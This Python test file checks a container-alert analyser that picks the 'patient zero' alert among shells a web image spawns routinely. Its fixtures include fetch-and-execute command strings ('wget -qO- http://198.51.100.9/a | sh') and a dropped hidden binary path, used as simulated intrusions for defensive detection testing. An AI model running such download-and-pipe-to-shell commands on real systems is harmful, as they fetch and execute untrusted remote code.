"""Patient zero among shells that the image starts all day: a program's probe and an
intruder's download have the sensor's rule, the process and its parent in common."""
import json
import sys
import unittest
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))
from made_cases import Case, lines  # noqa: E402
from test_kube_reach import Reach, shop  # noqa: E402

SHELL = "Shell spawned by untrusted binary"
OURS = "sh -c wget -qO- http://10.0.0.5/settings.sh | sh"
THEIRS = "sh -c wget -qO- http://198.51.100.9/a | sh"


class Pattern(Reach):
    def first(self, ordinary, *, then):
        """Both pods of the image start `ordinary` every ten minutes; web-0 then runs more."""
        c = Case("pattern", "2026-06-03")
        own = {"image": "shop/web", "container": "ab" * 32}
        for at in range(0, 7200, 600):
            c.alert(at, SHELL, "shop/web-0", ordinary, more={"proc.pname": "node"}, **own)
            c.alert(at + 5, SHELL, "shop/web-1", ordinary, more={"proc.pname": "node"},
                    image="shop/web", container="cd" * 32)
        c.alert(3800, SHELL, "shop/web-0", then, more={"proc.pname": "node"}, **own)
        c.alert(3830, "Drop and execute new binary in container", "shop/web-0", "/tmp/.x/kd",
                priority="Critical", **own)
        self.analyze({"pod.json": json.dumps(shop(c)), "sensor.jsonl": lines(c.alerts())})
        return self.documents["patient_zero"]["alert"]["command"]

    def test_a_download_beside_probes(self):
        self.assertEqual(self.first("sh -c ./probe.sh", then=THEIRS), THEIRS)

    def test_what_the_image_fetches_all_day_is_its_own(self):
        self.assertEqual(self.first(OURS, then=OURS), "/tmp/.x/kd")

    def test_another_download_is_not(self):
        self.assertEqual(self.first(OURS, then=THEIRS), THEIRS)

    def test_another_probe_is_the_program_s(self):
        self.assertEqual(self.first("sh -c ./probe.sh", then="sh -c ./probe.sh --long"),
                         "/tmp/.x/kd")


if __name__ == "__main__":
    unittest.main()
